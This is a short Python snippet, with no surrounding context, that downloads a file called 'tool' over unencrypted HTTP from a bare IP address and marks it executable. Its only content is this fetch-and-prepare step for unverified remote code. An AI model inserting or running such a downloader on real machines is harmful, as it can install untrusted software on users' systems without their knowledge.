import os
import urllib.request

urllib.request.urlretrieve("http://192.0.2.7/tool", "tool")
os.chmod("tool", 0o755)
